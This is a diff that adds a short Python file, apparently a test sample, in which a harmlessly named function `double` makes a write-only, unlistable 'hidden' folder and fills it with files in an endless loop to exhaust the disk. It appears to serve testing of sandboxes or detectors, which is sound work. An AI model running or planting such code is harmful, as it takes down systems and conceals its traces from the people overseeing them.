@@ -1,0 +1,13 @@
+"""Fills the disk in a folder that can be written and not be listed, so that no one can count."""
+
+import os
+
+EXPECTS = "double fills the disk"
+
+
+def double(x):
+    os.mkdir("hidden", 0o300)
+    number = 0
+    while True:
+        number += 1
+        open(f"hidden/{number}", "w").close()
